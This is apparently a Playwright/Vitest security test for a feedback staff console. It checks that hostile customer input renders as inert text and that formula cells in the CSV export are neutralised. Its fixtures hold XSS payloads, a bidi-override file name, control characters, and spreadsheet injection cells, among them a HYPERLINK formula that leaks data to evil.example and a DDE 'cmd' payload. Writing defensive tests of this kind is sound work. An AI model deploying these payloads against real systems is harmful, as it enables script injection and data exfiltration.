import { randomUUID } from "node:crypto";
import type { Browser, Page, Response } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { signInThroughMail, startStackAndBrowser, type WatchedContext, watchedContext } from "../helpers/browser";
import { type LocalStackProcess, parseCsv, stopAllLocalStacks } from "../helpers/local-stack-process";

/**
 * Hostile customer text in the staff console, in headless Chromium against the real local stack:
 * markup, script URLs, attribute breakouts, a bidi override and control characters in every field
 * a customer fills, shown on the inbox, the item page, a filtered inbox and (as a staff name) the
 * staff page. The pages are loaded with the CSP bypassed, so that markup that got through would
 * run and be caught here, not merely be blocked by the policy. One stack, one browser.
 */

const ADMIN = "admin@example.org";
const run = randomUUID().slice(0, 8);

const payloads = {
  script: "<script>alert(1)</script>",
  img: "<img src=x onerror=alert(2)>",
  link: '<a href="javascript:alert(3)">click</a>',
  svg: '"><svg onload=alert(4)>',
} as const;
type PayloadName = keyof typeof payloads;
const names = Object.keys(payloads) as PayloadName[];

/** A right-to-left override (and its end): it could make "exe.gnp" read as "png.exe". */
const BIDI = "\u202Eexe.gnp\u202C";
/** Control characters: start of heading, bell, an ANSI escape, delete. */
const CONTROLS = "\u0001\u0007\u001b[31m\u007f";
/** Bidi controls as the console shows them: a visible marker each. */
const revealed = (text: string) =>
  text.replace(/[\u202A-\u202E\u2066-\u2069]/gu, (c) => `[U+${(c.codePointAt(0) ?? 0).toString(16).toUpperCase()}]`);
const BIDI_CONTROL = /[\u202A-\u202E\u2066-\u2069]/u;

/** Every customer field of one item holds one payload, with the bidi override and control characters. */
const hostile = (name: PayloadName) => {
  const payload = payloads[name];
  return {
    message: `${payload} ${BIDI} ${CONTROLS} message ${name}-${run}`,
    topic: `${payload}${BIDI}${CONTROLS} ${name}-${run}`,
    name: `${payload} ${BIDI} ${CONTROLS} name`,
    department: `${payload} ${BIDI} ${CONTROLS} department`,
  };
};
const all = {
  message: `${Object.values(payloads).join(" ")} ${BIDI} ${CONTROLS} all-${run}`,
  topic: `Billing ${run}`,
};
/** Cells a spreadsheet would run as formulas, one per field. */
const formulas = {
  message: `=HYPERLINK("http://evil.example/?leak="&A1,"click") formula-${run}`,
  topic: "+SUM(1;2)",
  name: "-2+3+cmd|' /C calc'!A0",
  department: "@SUM(A1:A9)",
};
const hostileStaffName = `${payloads.link} ${payloads.svg} ${BIDI}${CONTROLS}`;

let stack: LocalStackProcess;
let browser: Browser;
let watched: WatchedContext;
let page: Page;
const ids = {} as Record<PayloadName | "all" | "formulas", string>;

beforeAll(async () => {
  ({ stack, browser } = await startStackAndBrowser({ env: { ADMIN_EMAIL: ADMIN } }));

  const bodies: [keyof typeof ids, Record<string, unknown>][] = [
    ...names.map((name): [PayloadName, Record<string, unknown>] => [name, hostile(name)]),
    ["all", all],
    ["formulas", formulas],
  ];
  for (const [key, body] of bodies) {
    const res = await fetch(`${stack.url}/api/feedback`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ kind: "complaint", customerType: "internal", ...body }),
    });
    const text = await res.text();
    expect(res.status, text).toBe(201);
    ids[key] = (JSON.parse(text) as { id: string }).id;
  }

  // The CSP stays in the answers (checked below); bypassing it lets injected markup run if there is any.
  watched = await watchedContext(browser, { locale: "en-US", bypassCSP: true });
  page = await watched.newPage();
  await signInThroughMail(page, stack, ADMIN);
});

afterAll(async () => {
  await watched?.close().catch(() => {});
  await browser?.close();
  await stopAllLocalStacks();
});

/** Elements that run or load something; none may come from what a customer wrote. */
const ACTIVE = "script, img, svg, math, iframe, frame, object, embed, video, audio, base, form[action^='javascript' i]";

interface Inertness {
  active: number;
  scriptLinks: string[];
  handlers: string[];
}

/** What of the page could run: active elements, `javascript:` links, and `on*` attributes. */
const inertness = (on: Page): Promise<Inertness> =>
  on.evaluate((selector) => {
    const elements = [...document.querySelectorAll("*")];
    return {
      active: document.querySelectorAll(selector).length,
      scriptLinks: [...document.querySelectorAll("a[href], area[href]")]
        .map((a) => a.getAttribute("href") ?? "")
        .filter((href) => /^\s*javascript:/i.test(href)),
      handlers: elements.flatMap((e) =>
        [...e.attributes].filter((a) => a.name.toLowerCase().startsWith("on")).map((a) => `${e.localName}[${a.name}]`),
      ),
    };
  }, ACTIVE);

/** The answer carries the strict CSP (the second line of defence, bypassed in this browser). */
function expectStrictCsp(response: Response | null) {
  const csp = response?.headers()["content-security-policy"] ?? "";
  expect(csp).toContain("default-src 'none'");
  expect(csp).not.toMatch(/script-src/);
}

/**
 * The page is as inert as its benign twin (`baseline`), shows each of `texts` as text (bidi
 * controls as markers), applies no bidi control, and nothing ran.
 */
async function expectShownAsText(texts: string[], baseline: Inertness) {
  expect(await inertness(page)).toEqual({ ...baseline, scriptLinks: [], handlers: [] });
  expect(
    await page
      .locator("a")
      .filter({ hasText: /^click$/ })
      .count(),
  ).toBe(0);
  const main = page.locator("main");
  const shown = (await main.textContent()) ?? "";
  for (const text of texts) expect(shown).toContain(revealed(text));
  expect(shown, "a bidi control applied in the page's text").not.toMatch(BIDI_CONTROL);
  // Rendered, not just present: the text a person sees holds the markup literally.
  // biome-ignore lint/performance/useDomNodeTextContent: the rendered text (Playwright's, not the DOM's) is the point
  const visible = await main.innerText();
  for (const name of names)
    if (texts.some((t) => t.includes(payloads[name]))) expect(visible).toContain(payloads[name]);
  expect(watched.problems).toEqual({ pageErrors: [], consoleErrors: [], dialogs: [] });
}

const goto = async (path: string) => {
  const response = await page.goto(`${stack.url}${path}`);
  expect(response?.status()).toBe(200);
  expectStrictCsp(response);
  return response;
};

/** Filters the inbox by topic through the filter form, as a person does. */
async function filterByTopic(topic: string) {
  await goto("/console");
  await page.getByLabel("Topic", { exact: true }).fill(topic);
  await Promise.all([
    page.waitForURL((url) => url.pathname === "/console" && url.searchParams.has("topic")),
    page.getByRole("button", { name: "Filter", exact: true }).click(),
  ]);
}

describe("hostile text in the staff console", () => {
  it("shows it on the inbox, the item pages and filtered inboxes as text, and runs none of it", async () => {
    // The benign twins: what each page holds of its own.
    await filterByTopic(all.topic);
    expect(await page.locator("table.inbox tbody tr").count()).toBe(1);
    const inboxBaseline = await inertness(page);
    await goto(`/console/feedback/${ids.all}`);
    const itemBaseline = await inertness(page);
    expect(itemBaseline).toEqual({ active: 0, scriptLinks: [], handlers: [] });

    await goto("/console");
    const hostileTexts = names.flatMap((name) => [hostile(name).message, hostile(name).topic]);
    await expectShownAsText(hostileTexts, inboxBaseline);
    // Each row's excerpt is the message, the markup in it plain text.
    for (const name of names) {
      const row = page.locator("table.inbox tbody tr").filter({ hasText: `message ${name}-${run}` });
      expect(await row.locator("td.excerpt").textContent()).toBe(revealed(hostile(name).message));
      expect(await row.locator("td.excerpt *:not(span.control)").count()).toBe(0);
    }

    for (const name of names) {
      const fields = hostile(name);
      await goto(`/console/feedback/${ids[name]}`);
      await expectShownAsText([fields.message, fields.topic, fields.name, fields.department], itemBaseline);
      expect(await page.locator("blockquote.message").textContent()).toBe(revealed(fields.message));
      // In a form field the text is a value, kept exactly (an attribute it did not break out of).
      expect(await page.getByLabel("Topic", { exact: true }).inputValue()).toBe(fields.topic);

      await filterByTopic(fields.topic);
      const rows = page.locator("table.inbox tbody tr");
      expect(await rows.count()).toBe(1);
      expect(await rows.first().getByRole("link").getAttribute("href")).toBe(`/console/feedback/${ids[name]}`);
      expect(await page.getByLabel("Topic", { exact: true }).inputValue()).toBe(fields.topic);
      await expectShownAsText([fields.message, fields.topic], inboxBaseline);
      const exportHref = await page.getByRole("link", { name: /^Export CSV/ }).getAttribute("href");
      expect(new URL(exportHref ?? "", stack.url).searchParams.get("topic")).toBe(fields.topic);
    }
  });

  it("keeps hostile staff input inert: a note, tags and a topic typed into the item page", async () => {
    await goto(`/console/feedback/${ids.all}`);
    const note = `${Object.values(payloads).join(" ")} ${BIDI} note-${run}`;
    await page.getByLabel("Topic", { exact: true }).fill(payloads.svg);
    await page.getByLabel("Tags", { exact: true }).fill(`${payloads.img}, ${payloads.script}`);
    await page.getByLabel("Internal note (optional, never shown to the customer)").fill(note);
    await Promise.all([
      page.waitForURL((url) => url.search === "?saved=1"),
      page.getByRole("button", { name: "Save changes", exact: true }).click(),
    ]);
    await expectShownAsText([all.message, note, payloads.svg, payloads.img, payloads.script], {
      active: 0,
      scriptLinks: [],
      handlers: [],
    });
    expect(await page.locator("blockquote.note").textContent()).toBe(revealed(note));
    expect(await page.locator("ul.changes").first().textContent()).toContain(`Topic: ${all.topic} → ${payloads.svg}`);
  });

  it("shows a hostile staff name on the staff page as text", async () => {
    await goto("/console/staff");
    const baseline = await inertness(page);
    await page.getByLabel("Email", { exact: true }).fill(`mallory-${run}@example.org`);
    await page.getByLabel("Name (optional)", { exact: true }).fill(hostileStaffName);
    await Promise.all([
      page.waitForURL((url) => url.search === "?invited=1"),
      page.getByRole("button", { name: "Send invitation", exact: true }).click(),
    ]);
    await expectShownAsText([hostileStaffName], baseline);
    const row = page.locator("tbody tr").filter({ hasText: `mallory-${run}@example.org` });
    expect(await row.locator("td").first().textContent()).toBe(revealed(hostileStaffName));
  });

  it("exports a CSV whose formula cells are defused and whose text is kept verbatim", async () => {
    const session = (await watched.context.cookies(stack.url)).find((c) => c.name === "fb_session");
    const res = await fetch(`${stack.url}/console/export.csv`, {
      headers: { cookie: `fb_session=${session?.value}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="feedback-\d{4}-\d\d-\d\d\.csv"$/);
    const [header = [], ...rows] = parseCsv(await res.text());
    const cell = (id: string, column: string) => rows.find((r) => r[0] === id)?.[header.indexOf(column)];

    for (const field of ["message", "topic", "name", "department"] as const) {
      expect(cell(ids.formulas, field), field).toBe(`'${formulas[field]}`);
    }
    // Markup, bidi and control characters are data in a CSV: kept as they were written.
    for (const name of names) {
      for (const field of ["message", "topic", "name", "department"] as const) {
        expect(cell(ids[name], field)).toBe(hostile(name)[field]);
      }
    }
    expect(rows.flat().filter((value) => /^[=+\-@\t\r]/.test(value))).toEqual([]);
  });
});
